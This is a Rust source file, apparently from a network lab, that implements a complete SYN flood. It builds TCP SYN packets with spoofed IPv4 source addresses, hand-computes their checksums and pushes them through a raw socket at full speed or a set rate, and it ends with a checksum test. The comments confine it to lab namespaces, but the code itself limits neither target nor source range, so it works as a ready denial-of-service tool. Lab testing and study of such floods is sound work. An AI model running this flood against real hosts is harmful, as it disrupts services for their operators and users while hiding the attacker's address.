//! A SYN flood for the lab: TCP SYNs with spoofed IPv4 sources, written to a raw socket as
//! fast as the kernel takes them. Sources are drawn from a prefix inside the lab (the client's
//! own subnet), so the answers go nowhere outside the namespaces.

use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// The Internet checksum of `data` with `sum` carried in.
fn checksum(data: &[u8], mut sum: u32) -> u16 {
    for c in data.chunks(2) {
        let w = if c.len() == 2 {
            u16::from_be_bytes([c[0], c[1]])
        } else {
            u16::from_be_bytes([c[0], 0])
        };
        sum += u32::from(w);
    }
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// One SYN from `src:sport` to `dst:dport` with sequence number `seq`: IPv4 + TCP headers.
pub fn syn(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, seq: u32) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&40u16.to_be_bytes());
    p[6] = 0x40; // don't fragment
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.octets());
    let ip_sum = checksum(&p[..20], 0);
    p[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dport.to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    // Pseudo-header: addresses, protocol, TCP length.
    let mut pseudo = 0u32;
    for w in [src.octets(), dst.octets()] {
        pseudo += u32::from(u16::from_be_bytes([w[0], w[1]]));
        pseudo += u32::from(u16::from_be_bytes([w[2], w[3]]));
    }
    pseudo += 6 + 20;
    let tcp_sum = checksum(&p[20..], pseudo);
    p[36..38].copy_from_slice(&tcp_sum.to_be_bytes());
    p
}

/// Sends SYNs to `dst:dport` for `secs`, from random ports of `base` + 1..=`hosts` (the
/// last octet), at most `rate` per second (0: as fast as possible). Returns how many were sent.
/// Must run in the sending namespace, with CAP_NET_RAW.
pub fn flood(
    base: Ipv4Addr,
    hosts: u8,
    dst: Ipv4Addr,
    dport: u16,
    secs: f64,
    rate: u64,
) -> Result<u64, String> {
    // SAFETY: socket(2) with constant arguments; the result is checked.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(format!(
            "raw socket: {} (needs CAP_NET_RAW)",
            std::io::Error::last_os_error()
        ));
    }
    // SAFETY: a fresh descriptor we own.
    let sock = unsafe { OwnedFd::from_raw_fd(fd) };
    let to = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(dst.octets()),
        },
        sin_zero: [0; 8],
    };
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let t0 = Instant::now();
    let mut sent = 0u64;
    let b = base.octets();
    while t0.elapsed().as_secs_f64() < secs {
        if rate > 0 && sent as f64 > rate as f64 * t0.elapsed().as_secs_f64() {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        let host = 1 + (x % u64::from(hosts.max(1))) as u8;
        let src = Ipv4Addr::new(b[0], b[1], b[2], b[3].wrapping_add(host));
        let sport = 1024 + (x >> 16) as u16 % 60000;
        let p = syn(src, sport, dst, dport, (x >> 32) as u32);
        // SAFETY: sending a 40-byte buffer to a valid sockaddr_in.
        let n = unsafe {
            libc::sendto(
                sock.as_raw_fd(),
                p.as_ptr().cast(),
                p.len(),
                0,
                (&to as *const libc::sockaddr_in).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if n == p.len() as isize {
            sent += 1;
        } else {
            // Full queue: let the kernel drain.
            std::thread::sleep(Duration::from_micros(100));
        }
    }
    Ok(sent)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_carries_valid_checksums() {
        let p = syn(
            Ipv4Addr::new(198, 18, 1, 7),
            40000,
            Ipv4Addr::new(198, 18, 3, 2),
            80,
            12345,
        );
        // A header with its checksum included sums to zero.
        assert_eq!(checksum(&p[..20], 0), 0);
        let mut pseudo = 0u32;
        for w in [[198u8, 18, 1, 7], [198, 18, 3, 2]] {
            pseudo += u32::from(u16::from_be_bytes([w[0], w[1]]));
            pseudo += u32::from(u16::from_be_bytes([w[2], w[3]]));
        }
        assert_eq!(checksum(&p[20..], pseudo + 26), 0);
        assert_eq!(p[33], 0x02, "SYN only");
    }
}
